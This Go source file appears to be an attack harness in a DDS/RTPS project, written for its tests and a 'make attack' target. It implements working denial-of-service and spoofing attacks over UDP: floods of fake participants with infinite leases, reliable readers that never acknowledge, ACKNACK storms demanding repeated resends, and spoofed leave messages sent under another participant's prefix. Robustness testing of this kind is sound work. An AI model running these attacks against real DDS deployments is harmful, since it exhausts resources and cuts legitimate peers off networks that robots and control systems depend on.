// Package ddsattack sends issue 37's DDS attacks at a participant over
// UDP, for `make attack` and the tests: one-off fake participants (their
// leases infinite, never an SEDP message), participants with readers
// that never acknowledge, and ACKNACK storms from a matched reader. It
// writes the messages with package rtps and reads what the target sends
// back to the attacker's address, counting it: the target's egress to
// the attacker, as the target's peers see it.
package ddsattack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"github.com/frcd/frcd/rtps"
)

// Attacker is a host sending attacks from one address to one target
// participant's discovery port (its metatraffic unicast locator:
// rtps.Ports.MetaUnicast). Every fake participant's locators are the
// attacker's own socket, which counts what comes back.
type Attacker struct {
	conn *net.UDPConn
	to   netip.AddrPort
	next atomic.Uint32

	// Received counts the bytes (and Datagrams the datagrams) the target
	// sent to the attacker; Announced the participants announced.
	Received, Datagrams, Announced atomic.Int64

	mu      sync.Mutex
	writers map[string]rtps.GUID // the target's writers by topic, from its SEDP
	found   chan struct{}        // closed and replaced when writers grows
	done    chan struct{}
}

// New binds the attacker to from (any port) and starts reading.
func New(from netip.Addr, to netip.AddrPort) (*Attacker, error) {
	c, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(from, 0)))
	if err != nil {
		return nil, fmt.Errorf("ddsattack: %w", err)
	}
	_ = c.SetReadBuffer(4 << 20)
	a := &Attacker{conn: c, to: to, writers: map[string]rtps.GUID{}, found: make(chan struct{}), done: make(chan struct{})}
	go a.read()
	return a, nil
}

// Close stops the attacker.
func (a *Attacker) Close() error {
	err := a.conn.Close()
	<-a.done
	return err
}

// Addr is the attacker's address and port.
func (a *Attacker) Addr() netip.AddrPort { return a.conn.LocalAddr().(*net.UDPAddr).AddrPort() }

func (a *Attacker) read() {
	defer close(a.done)
	buf := make([]byte, 65536)
	for {
		n, _, err := a.conn.ReadFromUDPAddrPort(buf)
		if errors.Is(err, net.ErrClosed) {
			return
		}
		if err != nil {
			continue
		}
		a.Received.Add(int64(n))
		a.Datagrams.Add(1)
		a.learn(buf[:n])
	}
}

// learn notes the target's writers announced in a datagram.
func (a *Attacker) learn(b []byte) {
	_ = rtps.Parse(b, func(_ rtps.Header, s rtps.Submessage) error {
		if s.ID != rtps.SubData {
			return nil
		}
		d, err := rtps.DecodeData(s)
		if err != nil || d.Writer != rtps.EntitySEDPPubWriter || d.Payload == nil {
			return nil
		}
		e, err := rtps.DecodeEndpointData(d.Payload, true, rtps.GUID{})
		if err != nil {
			return nil
		}
		a.mu.Lock()
		if _, ok := a.writers[e.Topic]; !ok {
			a.writers[e.Topic] = e.GUID
			close(a.found)
			a.found = make(chan struct{})
		}
		a.mu.Unlock()
		return nil
	})
}

// Participant is a fake participant of the attacker.
type Participant struct {
	a      *Attacker
	Prefix rtps.GuidPrefix
	sn     rtps.SequenceNumber // its SEDP subscriptions writer's last
	acks   int32
}

// NewParticipant announces a new participant (lease infinite).
func (a *Attacker) NewParticipant() (*Participant, error) {
	p := &Participant{a: a}
	p.Prefix[0], p.Prefix[1] = 0xfa, 0xce
	binary.BigEndian.PutUint32(p.Prefix[8:], a.next.Add(1))
	loc := []rtps.Locator{rtps.UDPv4(a.Addr())}
	d := rtps.ParticipantData{GUID: rtps.GUID{Prefix: p.Prefix, Entity: rtps.EntityParticipant}, MetaUnicast: loc, DefaultUnicast: loc,
		BuiltinEndpoints: rtps.BuiltinParticipantAnnouncer | rtps.BuiltinParticipantDetector | rtps.BuiltinPublicationsAnnouncer |
			rtps.BuiltinPublicationsDetector | rtps.BuiltinSubscriptionsAnnouncer | rtps.BuiltinSubscriptionsDetector,
		LeaseDuration: 1 << 62}
	err := p.send(func(m *rtps.Builder) {
		m.Data(&rtps.Data{Writer: rtps.EntitySPDPWriter, SN: 1, Payload: d.Marshal(nil)})
	})
	if err == nil {
		a.Announced.Add(1)
	}
	return p, err
}

func (p *Participant) send(add func(m *rtps.Builder)) error {
	var m rtps.Builder
	m.Reset(nil, p.Prefix)
	add(&m)
	_, err := p.a.conn.WriteToUDPAddrPort(m.Bytes(), p.a.to)
	return err
}

// Participants announces n one-off participants, a batch of batch every
// period (pacing a flood, not waiting for anything), until n or ctx
// ends; it returns how many it sent.
func (a *Attacker) Participants(ctx context.Context, n, batch int, period time.Duration) (int, error) {
	tick := time.NewTicker(period)
	defer tick.Stop()
	sent := 0
	for sent < n {
		for i := 0; i < batch && sent < n; i++ {
			if _, err := a.NewParticipant(); err != nil {
				return sent, err
			}
			sent++
		}
		select {
		case <-ctx.Done():
			return sent, nil
		case <-tick.C:
		}
	}
	return sent, nil
}

// Reader announces a reliable, volatile reader of topic and type typ,
// entity number n (from 1) of the participant; it never acknowledges
// anything unless AckNack is called.
func (p *Participant) Reader(n int, topic, typ string) (rtps.GUID, error) {
	g := rtps.GUID{Prefix: p.Prefix, Entity: rtps.EntityID(n<<8 | 0x04)}
	e := rtps.EndpointData{GUID: g, Topic: topic, Type: typ, QoS: rtps.QoS{Reliability: rtps.Reliable, History: rtps.KeepLast, Depth: 10}}
	p.sn++
	return g, p.send(func(m *rtps.Builder) {
		m.Data(&rtps.Data{Reader: rtps.EntitySEDPSubReader, Writer: rtps.EntitySEDPSubWriter, SN: p.sn, Payload: e.Marshal(nil)})
	})
}

// AckNack sends reader's ACKNACK to writer asking for the 256 numbers
// from base again (a new count each time, so none is a duplicate).
func (p *Participant) AckNack(reader, writer rtps.GUID, base rtps.SequenceNumber) error {
	p.acks++
	ack := rtps.AckNack{Reader: reader.Entity, Writer: writer.Entity, State: rtps.SeqSet{Base: base}, Count: p.acks}
	for i := 0; i < 256; i++ {
		ack.State.Add(base + rtps.SequenceNumber(i))
	}
	return p.send(func(m *rtps.Builder) {
		m.InfoDst(writer.Prefix)
		m.AckNack(&ack)
	})
}

// Writer waits until the target has announced a writer of topic to the
// attacker (after NewParticipant), or ctx ends.
func (a *Attacker) Writer(ctx context.Context, topic string) (rtps.GUID, error) {
	for {
		a.mu.Lock()
		g, ok := a.writers[topic]
		ch := a.found
		a.mu.Unlock()
		if ok {
			return g, nil
		}
		select {
		case <-ch:
		case <-ctx.Done():
			return rtps.GUID{}, fmt.Errorf("ddsattack: no writer of %s announced: %w", topic, ctx.Err())
		}
	}
}

// Leave sends, from the attacker's address, the message by which the
// participant prefix says it is leaving (an SPDP dispose and unregister
// under prefix's header): a spoofed leave when prefix is someone else's.
func (a *Attacker) Leave(prefix rtps.GuidPrefix) error {
	var m rtps.Builder
	m.Reset(nil, prefix)
	gone := uint32(rtps.StatusDisposed | rtps.StatusUnregistered)
	m.Data(&rtps.Data{Writer: rtps.EntitySPDPWriter, SN: 1 << 20,
		InlineQoS: rtps.KeyHashList(rtps.GUID{Prefix: prefix, Entity: rtps.EntityParticipant}, gone)})
	_, err := a.conn.WriteToUDPAddrPort(m.Bytes(), a.to)
	return err
}
